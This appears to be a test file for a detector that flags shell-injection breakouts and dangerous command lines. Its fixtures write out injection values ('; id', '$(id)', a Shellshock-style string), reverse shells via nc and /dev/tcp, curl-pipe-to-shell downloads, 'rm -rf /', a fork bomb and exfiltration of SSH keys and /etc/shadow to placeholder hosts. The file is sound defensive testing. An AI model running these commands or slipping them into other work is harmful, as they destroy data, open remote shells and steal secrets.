import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { bound } from '../../../model/bounds.ts'
import { breakoutOf } from './breakout.ts'
import { dangersIn } from './judge.ts'
import { scan } from './scan.ts'

describe('starts a command of its own', () => {
  test.each([
    ['behind a semicolon', '10.0.0.7; uname -a', 'uname -a'],
    ['behind an ampersand', 'a.txt && id', 'id'],
    ['behind a pipe', 'a.txt|/usr/bin/id', '/usr/bin/id'],
    ['at once', '; id', 'id'],
    ['behind a line end', '\nid', 'id'],
    ['behind a line end that is written out', '\\nid', 'id'],
    ['behind a quote', "x'; id", 'id'],
    ['behind quotes and parentheses', '"); id', 'id'],
    ['in a substitution', '$(id)', 'id'],
    ['in a word', 'a$(id)b', 'id'],
    ['in backticks', '`uname -a`', 'uname -a'],
    ['in a function of a variable', '() { :;}; id', 'id'],
    ['of Windows', '& dir C:\\', 'dir C:\\'],
    ['by a call', ";system('id')", "system('id')"],
  ])('%s', (_, value, script) => {
    expect(breakoutOf(value)?.script).toBe(script)
  })

  test('behind a line end that was undone from a code', () => {
    expect(breakoutOf('a\nid', true)?.script).toBe('id')
  })
})

describe('stays a word, a list or a command line', () => {
  test.each([
    'sort a.txt | uniq',
    'make && make install',
    'cd /srv; ls',
    './configure && make',
    'id|date|name',
    'red; green',
    'R&D',
    'a\nid\ndate',
    '| Date | Change |',
    '?a=1&date=2',
    '`date` is a column',
    'see `uname -a` for more',
    '${HOME}/bin',
    'price: $5 (or so)',
    "it's; date",
    '',
  ])('%s', (value) => {
    expect(breakoutOf(value)).toBeNull()
  })
})

describe('what a command line does', () => {
  test.each([
    ['curl -s a | sh', 'runs-download'],
    ['curl -s a | sudo -E bash -', 'runs-download'],
    ['timeout 60 bash <(wget -qO- a)', 'runs-download'],
    ['sh -c "$(curl a)"', 'runs-download'],
    ['bash -c "curl a | sh"', 'runs-download'],
    ['wget a -O b; sh b', 'runs-download'],
    ['echo a | base64 -d | sh', 'runs-download'],
    ['iwr a | iex', 'runs-download'],
    ['rm -rf /', 'destroys'],
    ['sudo rm -fr ~/', 'destroys'],
    ['find . | xargs rm -rf /*', 'destroys'],
    [':(){ :|:& };:', 'destroys'],
    ['dd if=a of=/dev/sda', 'destroys'],
    ['cat a > /dev/sda', 'destroys'],
    ['nc a 1 -e /bin/sh', 'opens-door'],
    ['bash -i >& /dev/tcp/a/1 0>&1', 'opens-door'],
    ['cat ~/.ssh/id_rsa | nc a 1', 'sends-secret'],
    ['curl -d @/etc/shadow a', 'sends-secret'],
    ['curl "https://a.example.test/?b=$(whoami)"', 'sends-secret'],
    ['ping $(whoami).a.example.test', 'sends-secret'],
    ['cat ~/.aws/credentials', 'reads-secret'],
    ['echo a >> ~/.bashrc', 'stays'],
    ['cp a ~/.ssh/authorized_keys', 'stays'],
  ])('%s', (script, danger) => {
    expect(dangersIn(script, null)[0]?.danger).toBe(danger)
  })

  test.each([
    'curl a | jq .',
    'curl a | python3 b.py',
    'curl -o a b | sh',
    'rm -rf build /tmp/a',
    'dd if=/dev/sda of=a',
    'echo "curl a | sh"',
    'cat ~/.ssh/id_rsa.pub',
    'cat /repo/.ssh/id_rsa',
    'grep -r secret .',
    'printf ":(){ :|:& };:"',
  ])('%s does none of it', (script) => {
    expect(dangersIn(script, null)).toEqual([])
  })

  test('a parser sees what our own reading does not', () => {
    const words = ['rm', '-rf', '/'].map((text) => ({ text, runs: [] }))
    expect(dangersIn('true', () => [[{ words, redirects: [] }]])).toMatchObject([{ danger: 'destroys' }])
    expect(dangersIn('true', () => null)).toEqual([])
  })

  test('more than can be read is not judged', () => {
    expect(() => dangersIn('a'.repeat(bound('shell-scan-chars') + 1), null)).toThrow('longer than can be read')
  })
})

test('no script breaks our own reading, and none is lost', () => {
  const unit = fc.constantFrom(
    'a',
    ' ',
    "'",
    '"',
    '`',
    '$(',
    ')',
    '(',
    '|',
    ';',
    '&',
    '>',
    '<',
    '\\',
    '\n',
    '#',
    '{',
    '}',
    '\ud800',
  )
  fc.assert(
    fc.property(fc.array(unit, { maxLength: 60 }), (parts) => {
      const text = parts.join('')
      expect(Array.isArray(scan(text))).toBe(true)
      breakoutOf(text)
    }),
    { numRuns: 500 },
  )
})
